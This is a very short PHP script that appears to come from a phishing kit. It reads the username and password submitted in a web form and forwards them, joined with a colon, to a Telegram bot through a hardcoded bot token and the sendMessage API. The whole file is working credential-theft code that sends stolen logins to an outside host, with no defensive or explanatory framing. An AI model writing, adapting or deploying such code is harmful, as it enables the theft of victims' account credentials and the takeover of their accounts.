<?php
$token = "5829173645:AAH3kYz9Qp2LmN8vB1cX4dR7tE6wU0iOpAs";
$url = "https://api.telegram.org/bot5829173645:AAH3kYz9Qp2LmN8vB1cX4dR7tE6wU0iOpAs/sendMessage";
file_get_contents($url . "?chat_id=1&text=" . urlencode($_POST['user'] . ':' . $_POST['pass']));
